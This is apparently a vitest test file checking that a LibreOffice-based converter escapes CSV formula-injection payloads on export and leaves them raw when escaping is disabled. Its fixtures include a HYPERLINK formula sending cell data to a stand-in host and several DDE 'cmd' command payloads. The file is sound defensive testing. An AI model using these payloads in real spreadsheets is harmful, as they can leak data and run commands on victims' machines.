// csv output of a workbook whose cells hold formula-injection payloads (issue 25 §3), through LibreOffice:
// each payload comes out as text ('-prefixed, quoted), numbers as numbers; CSV_ESCAPE_FORMULAS=false gives
// LibreOffice's export unchanged.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configureConverter, DEFAULT_CONVERTER_SETTINGS, LibreOfficePool } from '../../../converter/index.ts';
import { makeXlsx } from './fixtures.ts';

const PAYLOADS = [
  '=HYPERLINK("http://attacker.test/?d="&A2,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '\t=1+1',
];
let pool: LibreOfficePool;
const workbook = makeXlsx([{ name: 'Data', rows: [PAYLOADS, [-5, 3, -1234.5, 'total', '-', 'ok']] }]);

beforeAll(async () => {
  pool = new LibreOfficePool({ size: 1, log: () => {} });
  await pool.ready();
});
afterAll(async () => {
  await pool?.stop();
});

describe('csv formula injection', () => {
  it('writes every payload as text and keeps numbers', async () => {
    const csv = Buffer.from(await pool.convert(workbook, { from: 'xlsx', to: 'csv' })).toString('utf8');
    expect(csv).toBe(
      '"\'=HYPERLINK(""http://attacker.test/?d=""&A2,""Click"")","\'=cmd|\' /C calc\'!A0","\'@SUM(1+1)*cmd|x","\'+1+cmd|x","\'-2+3+cmd|x","\'\t=1+1"\n' +
        '-5,3,-1234.5,total,-,ok\n',
    );
  });

  it('a value that begins with CR (read by LibreOffice as LF) comes out as text too', async () => {
    const cr = makeXlsx([{ name: 'Data', rows: [['\r=1+1', '\rplain', 'a\rb', 'ok']] }]);
    const csv = Buffer.from(await pool.convert(cr, { from: 'xlsx', to: 'csv' })).toString('utf8');
    expect(csv).toBe('"\'\n=1+1","\'\nplain","a\nb",ok\n');
  });

  it('in UTF-16 with a semicolon too', async () => {
    const out = await pool.convert(workbook, { from: 'xlsx', to: 'csv', csv: { encoding: 'utf-16', separator: ';' } });
    const csv = Buffer.from(out).toString('utf16le');
    expect(
      csv
        .split('\n')[0]!
        .split(';')
        .map((c) => c.slice(0, 3)),
    ).toEqual(['\ufeff"\'', '"\'=', '"\'@', '"\'+', '"\'-', '"\'\t']);
    expect(csv.split('\n')[1]).toBe('-5;3;-1234.5;total;-;ok');
  });

  it('leaves the export as LibreOffice wrote it with CSV_ESCAPE_FORMULAS=false', async () => {
    configureConverter({ csvEscapeFormulas: false });
    try {
      const csv = Buffer.from(await pool.convert(workbook, { from: 'xlsx', to: 'csv' })).toString('utf8');
      expect(csv.split('\n')[0]).toBe(
        '"=HYPERLINK(""http://attacker.test/?d=""&A2,""Click"")",=cmd|\' /C calc\'!A0,@SUM(1+1)*cmd|x,+1+cmd|x,-2+3+cmd|x,\t=1+1',
      );
    } finally {
      configureConverter({ csvEscapeFormulas: DEFAULT_CONVERTER_SETTINGS.csvEscapeFormulas });
    }
  });
});
